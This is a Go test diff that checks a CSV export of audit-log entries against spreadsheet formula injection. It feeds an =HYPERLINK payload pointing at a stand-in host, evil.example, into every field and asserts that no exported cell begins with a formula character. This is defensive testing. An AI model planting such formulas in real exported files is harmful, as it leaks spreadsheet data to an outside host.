@@ -39,6 +39,27 @@ func TestWriteCSV(t *testing.T) {
 	}
 }
 
+// TestWriteCSVNeutralisesEveryCell: an agent who searches for a formula gets
+// a 404 audited with the raw id; no column may carry it to a spreadsheet.
+func TestWriteCSVNeutralisesEveryCell(t *testing.T) {
+	f := `=HYPERLINK("http://evil.example/?"&A1,"y")`
+	var b bytes.Buffer
+	err := WriteCSV(&b, []data.AuditEntry{{ID: "@" + f, AgentID: "+" + f, Role: "-" + f, Action: " " + f, AccountID: f,
+		Reason: "\t" + f, Detail: f, Outcome: f}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, c := range recs[1] {
+		if c != "" && strings.ContainsAny(c[:1], "=+-@ \t") {
+			t.Errorf("column %s = %q reaches a spreadsheet as a formula", Columns[i], c)
+		}
+	}
+}
+
 func TestWriteJSONL(t *testing.T) {
 	var b bytes.Buffer
 	if err := WriteJSONL(&b, entries); err != nil {
